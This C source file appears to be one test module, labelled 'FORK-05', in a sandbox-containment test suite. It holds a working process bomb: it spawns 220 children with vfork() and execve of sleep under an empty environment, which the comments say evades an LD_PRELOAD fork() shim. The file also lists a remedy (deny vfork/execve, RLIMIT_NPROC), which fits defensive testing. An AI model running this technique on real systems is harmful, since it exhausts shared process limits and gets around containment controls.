// SPDX-License-Identifier: MIT
/*
 * vfork-exec.c - a process bomb of other people's programs.
 *
 * Goal: fill the task budget.
 * Means: vfork() and exec, over and over. A shim that replaces fork() in libc is not asked, and a
 * program started with an empty environment has lost LD_PRELOAD, shim and all.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <signal.h>
#include <unistd.h>

#define TASKS 220

static enum claim run(const struct brief *b)
{
	static char *const argv[] = {"sleep", "5", NULL};
	static char *const envp[] = {NULL};
	volatile int refused = 0; /* the child writes it too: until exec all memory is shared */
	pid_t child[TASKS];
	enum claim claim;

	attempting(b);
	for (int i = 0; i < TASKS; i++) {
		child[i] = vfork();
		if (!child[i]) {
			execve("/bin/sleep", argv, envp);
			refused = errno;
			_exit(127);
		}
		if (child[i] > 0 && !refused)
			continue;
		errno = refused ?: errno;
		claim = denied(refused ? "execve" : "vfork");
		while (i-- > 0)
			kill(child[i], SIGKILL);
		return claim;
	}
	return hold();
}

const struct attack attack = {
	.effect = "more processes than the budget",
	.means = "vfork() and exec of sleep with an empty environment, past a shim on fork()",
	.oracle = "census",
	.id = "FORK-05",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "deny vfork and execve; RLIMIT_NPROC",
	.run = run,
};
